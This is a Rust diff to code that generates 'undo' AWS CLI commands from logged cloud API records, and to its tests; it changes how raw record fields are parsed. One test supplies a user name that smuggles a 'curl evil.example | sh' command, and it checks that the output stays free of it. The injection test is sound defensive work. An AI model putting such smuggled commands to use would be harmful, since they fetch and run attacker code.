@@ -128,7 +128,7 @@ impl Undoing {
         let mut undos = of_call(&UNDOING, record).filter(|(row, _)| is_of(record, row)).peekable();
         // Most candidates are of other calls, and need not be parsed.
         let fields = undos.peek().filter(|_| Outcome::of(record) == Outcome::Succeeded);
-        let Some(fields) = fields.and_then(|_| Fields::of(record.raw.get()).ok()) else { return Vec::new() };
+        let Some(fields) = fields.and_then(|_| Fields::of(&record.raw).ok()) else { return Vec::new() };
         let things = undos.flat_map(|(row, undo)| texts(undo.id, &fields).into_iter().map(|id| (row.kind, id)));
         let undoing = |(kind, id)| Undoing {
             kind,
@@ -166,7 +166,7 @@ mod tests {
             assert_eq!(case["row"], name);
             assert!(row.source.starts_with("https://docs.aws.amazon.com/"), "{name}");
             let created = record(&case["record"]);
-            let left: Vec<Left> = made(&created, &Fields::of(created.raw.get()).unwrap())
+            let left: Vec<Left> = made(&created, &Fields::of(&created.raw).unwrap())
                 .into_iter()
                 .filter(|left| left.kind == row.kind)
                 .collect();
@@ -192,7 +192,7 @@ mod tests {
             "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
             "requestParameters": { "userName": "x'; curl evil.example | sh #" },
         }));
-        let [left] = &made(&hostile, &Fields::of(hostile.raw.get()).unwrap())[..] else { panic!() };
+        let [left] = &made(&hostile, &Fields::of(&hostile.raw).unwrap())[..] else { panic!() };
         let undo = left.undo.as_deref().unwrap();
         assert!(undo.starts_with("aws iam delete-user --user-name='<userName>'  # Replace <userName>: "), "{undo}");
         assert!(!undo.contains("evil"));
